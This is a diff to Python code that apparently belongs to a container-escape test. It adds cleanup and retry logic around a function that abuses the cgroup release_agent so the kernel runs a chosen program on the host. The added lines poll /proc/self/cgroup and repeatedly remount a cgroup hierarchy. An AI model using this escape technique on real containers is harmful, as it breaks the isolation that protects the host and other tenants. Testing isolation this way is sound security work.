@@ -24,6 +24,16 @@ OUTER = os.open("/proc/self/ns/cgroup", os.O_RDONLY | os.O_CLOEXEC)
 FIRST = 0xEFFFFFFB
 
 
+def hierarchy_ends(name: str) -> bool:
+    """Whether a hierarchy ends by itself. It does when its last mount goes and all its cgroups have gone before."""
+    deadline = time.monotonic() + 0.5
+    while name in inside.read("/proc/self/cgroup"):
+        if time.monotonic() > deadline:
+            return False
+        time.sleep(0.01)
+    return True
+
+
 def escape_by_release_agent(options: str, agent: str, proof: str) -> list[str]:
     """Make a hierarchy whose release agent the kernel runs on the host, as soon as one of its cgroups is empty."""
     place = "/tmp/orch-attack-cgroup"
@@ -39,6 +49,9 @@ def escape_by_release_agent(options: str, agent: str, proof: str) -> list[str]:
             time.sleep(0.01)
         os.rmdir(f"{place}/empty")
         inside.umount(place)
+        while not hierarchy_ends(options.partition("name=")[2]):
+            inside.mount("cgroup", place, "cgroup", 0, options)
+            inside.umount(place)
     os.rmdir(place)
     return words
 
